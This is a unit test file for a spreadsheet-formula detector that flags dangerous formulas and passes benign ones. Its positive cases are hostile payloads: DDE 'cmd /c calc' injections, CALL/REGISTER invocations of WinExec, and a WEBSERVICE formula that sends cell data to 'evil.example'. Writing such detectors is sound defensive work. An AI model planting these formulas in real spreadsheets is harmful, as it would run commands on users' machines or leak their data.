import { activeFormula } from './active-formula';

describe('activeFormula', () => {
  it.each([
    ["cmd|'/c calc'!A0", { what: 'dde' }],
    ["msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", { what: 'dde' }],
    ['SUM(1)+cmd|calc!A1', { what: 'dde' }],
    ['WEBSERVICE("http://evil.example/?"&A1)', { what: 'function', function: 'WEBSERVICE' }],
    ['_xlfn.WEBSERVICE("http://x")', { what: 'function', function: 'WEBSERVICE' }],
    ['FILTERXML(A1,"//a")', { what: 'function', function: 'FILTERXML' }],
    ['_xlfn.FILTERXML(A1,"//a")', { what: 'function', function: 'FILTERXML' }],
    ['CALL("kernel32","WinExec","JCJ","calc",0)', { what: 'function', function: 'CALL' }],
    ['REGISTER.ID("kernel32","WinExec")', { what: 'function', function: 'REGISTER.ID' }],
    ['register("kernel32","WinExec")', { what: 'function', function: 'REGISTER' }],
    ['EXEC("calc")', { what: 'function', function: 'EXEC' }],
    ['RTD("prog.id",,"x")', { what: 'function', function: 'RTD' }],
    ['[1]決算!B4', { what: 'external_reference' }],
    ["'[114年決算.xlsx]決算'!$B$4", { what: 'external_reference' }],
    ['[x.xlsx]Sheet1!A1+1', { what: 'external_reference' }],
    ['[1]!secret', { what: 'external_reference' }],
    ['HYPERLINK("file://attacker/share/x","看這裡")', { what: 'hyperlink', target: 'file://attacker/share/x' }],
    ['HYPERLINK("\\\\attacker\\share")', { what: 'hyperlink', target: '\\\\attacker\\share' }],
    ['HYPERLINK(A1)', { what: 'hyperlink', target: '' }],
  ])('%s is active', (formula, expected) => expect(activeFormula(formula)).toEqual(expected));

  it.each([
    'SUM(B14:B3013)',
    'IF(A1="a|b","x","y")',
    "'a|b'!A1",
    'HYPERLINK("https://www.mol.gov.tw","勞動部")',
    'HYPERLINK("mailto:a@b.tw")',
    'IFERROR(VLOOKUP(C14&"|"&D14,tbl_cb_summary,2,FALSE),"")',
    'Table1[[#This Row],[金額]]*2',
    '"[1]Sheet!A1"',
    'CALLS(1)+RECALL',
    'SUMPRODUCT((決算!B4:B9)*1)',
  ])('%s is not', (formula) => expect(activeFormula(formula)).toBeNull());
});
